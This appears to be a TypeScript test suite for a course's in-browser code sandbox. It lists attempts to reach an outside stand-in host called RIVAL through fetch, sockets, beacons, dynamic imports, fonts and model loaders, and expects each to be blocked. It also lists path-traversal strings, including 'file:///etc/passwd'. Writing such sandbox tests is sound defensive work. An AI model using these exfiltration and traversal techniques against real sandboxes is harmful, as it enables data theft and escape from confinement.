import type { Attack } from './attack.ts';

/** Requests to another origin, and for files of the site that are not data of the course. None may arrive. */
export const networkAttacks: readonly Attack[] = [
  {
    name: 'fetch of another origin, past the course’s own fetch',
    source: `
      await attempt('cors', () => globalThis.fetch('RIVAL/a?x=' + self.origin));
      await attempt('no-cors', () => globalThis.fetch('RIVAL/b', { mode: 'no-cors' }));
      await attempt('keepalive', () => globalThis.fetch('RIVAL/c', { method: 'POST', keepalive: true, body: 'x' }));
      await attempt('request', () => globalThis.fetch(new Request('RIVAL/d', { credentials: 'include' })));`,
    shows: /cors: blocked.*no-cors: blocked.*keepalive: blocked.*request: blocked/s,
  },
  {
    name: 'the course’s own fetch with another origin’s address',
    source: `
      for (const path of ['RIVAL/a', '//localhost/a', 'http:RIVAL', 'RIVAL@models/a', 'models/RIVAL/a', '\\\\\\\\localhost/models/a'])
        await attempt(path, () => fetch(path));`,
    shows: /(?:blocked, CourseError.*){6}/s,
  },
  {
    name: 'XMLHttpRequest, later and at once',
    source: `
      const send = (isLater) => () => new Promise((yes, no) => {
        const request = new XMLHttpRequest();
        request.onload = () => yes(request.responseText);
        request.onerror = () => no(new DOMException('', 'NetworkError'));
        request.open('GET', 'RIVAL/xhr', isLater);
        request.send();
        if (!isLater) yes(request.responseText);
      });
      await attempt('later', send(true));
      await attempt('at once', send(false));`,
    shows: /later: blocked.*at once: blocked/s,
  },
  {
    name: 'WebSocket and its stream',
    source: `
      await attempt('socket', () => new Promise((yes, no) => {
        const socket = new WebSocket('RIVAL/socket'.replace('http', 'ws'));
        socket.onopen = yes;
        socket.onerror = () => no(new DOMException('', 'NetworkError'));
      }));
      await attempt('stream', () => new WebSocketStream('RIVAL/socket'.replace('http', 'ws')).opened);`,
    shows: /socket: blocked.*stream: blocked/s,
  },
  {
    name: 'EventSource',
    source: `
      await attempt('events', () => new Promise((yes, no) => {
        const events = new EventSource('RIVAL/events');
        events.onmessage = events.onopen = yes;
        events.onerror = () => no(new DOMException('', 'NetworkError'));
      }));`,
    shows: /events: blocked/,
  },
  {
    name: 'sendBeacon, WebTransport, WebRTC, direct sockets',
    source: `
      await attempt('beacon', async () => navigator.sendBeacon('RIVAL/beacon', 'x'));
      await attempt('transport', () => new WebTransport('RIVAL/t'.replace('http:', 'https:')).ready);
      await attempt('rtc', async () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:localhost' }] }));
      await attempt('tcp', async () => new TCPSocket('localhost', 80));`,
    shows: /beacon: blocked.*transport: blocked.*rtc: blocked.*tcp: blocked/s,
  },
  {
    name: 'import() of another origin, written out and evaluated',
    source: `
      await attempt('written', () => import('RIVAL/module.js'));
      await attempt('evaluated', () => (0, eval)("import('RIVAL/module.js')"));
      await attempt('in a function', () => new Function("return import('RIVAL/module.js')")());
      await attempt('through a blob', () => (0, eval)('import(' + JSON.stringify(URL.createObjectURL(new Blob(["import 'RIVAL/module.js'"], { type: 'text/javascript' }))) + ')'));`,
    shows: /written: blocked.*evaluated: blocked.*in a function: blocked.*through a blob: blocked/s,
  },
  {
    name: 'importScripts of another origin',
    source: `
      await attempt('direct', async () => importScripts('RIVAL/script.js'));
      await attempt('through a blob', async () => importScripts(URL.createObjectURL(new Blob(["importScripts('RIVAL/script.js')"]))));`,
    shows: /direct: blocked.*through a blob: blocked/s,
  },
  {
    name: 'a font, a canvas filter and a source map of another origin',
    source: `
      await attempt('font', () => new FontFace('rival', 'url(RIVAL/font.woff2)').load());
      await attempt('filter', async () => {
        const context = new OffscreenCanvas(8, 8).getContext('2d');
        context.filter = 'url(RIVAL/filter.svg#f)';
        context.fillRect(0, 0, 8, 8);
        throw new DOMException('', 'NoRequest');
      });
      (0, eval)('1 //# sourceMappingURL=RIVAL/map.json');`,
    shows: /font: blocked.*filter: blocked/s,
    lingers: 200,
  },
  {
    name: 'WebAssembly streamed from another origin',
    source: `await attempt('wasm', () => WebAssembly.compileStreaming(globalThis.fetch('RIVAL/x.wasm')));`,
    shows: /wasm: blocked/,
  },
  {
    name: 'tfjs’s own loading, with another origin’s address',
    source: `
      await attempt('layers', () => tf.loadLayersModel('RIVAL/model.json'));
      await attempt('io', () => tf.io.browserHTTPRequest('RIVAL/model.json').load());
      await attempt('platform', () => tf.env().platform.fetch('RIVAL/model.json'));
      await attempt('csv', () => tf.data.csv('RIVAL/data.csv').toArray());`,
    shows: /layers: blocked.*io: blocked.*platform: blocked.*csv: blocked/s,
  },
  {
    name: 'the site’s own pages and scripts, past the course’s fetch',
    source: `
      for (const path of ['/es/', '/runner.html', '/models/efficientnet-lite0@1/model.json'])
        await attempt(path, () => globalThis.fetch('SITE' + path, { mode: 'no-cors' }));
      await attempt('relative', () => globalThis.fetch('/es/'));
      await attempt('script', async () => importScripts('SITE/runner.html'));`,
    shows: /(?:blocked.*){5}/s,
  },
  {
    name: 'the site’s own pages through the course’s fetch, by every way up',
    source: `
      const up = ['../es/', 'models/../es/', 'models/../../secret', '/models/../es/', './models/../es/', 'models/./../es/',
        'models/%2e%2e/es/', 'models/%2E./es/', 'models%2f..%2fes', 'models/..%2fes', 'models/..\\\\es', 'models\\\\..\\\\es',
        'models/\u2024\u2024/es', 'models/\uff0e\uff0e/es', 'models/.\u2060./es', 'models/\u0000/es', 'models//es', '//models/a', '/es/', 'es/index.html',
        'runner.html', '_astro/', 'models', 'models/', 'datasets/', 'models/a?../../es', 'models/a#x', 'models/a\\nb', ' models/a',
        'SITE/es/', 'SITE/models/../es/', 'javascript:1', 'file:///etc/passwd', 'about:blank', ''];
      let blocked = 0;
      for (const path of up) {
        try { await fetch(path); console.log('GOT ' + path); } catch (error) { if (error.name === 'CourseError') blocked += 1; else console.log(path, error.name); }
      }
      console.log(blocked === up.length ? 'all refused' : 'refused ' + blocked);`,
    shows: /all refused/,
  },
];
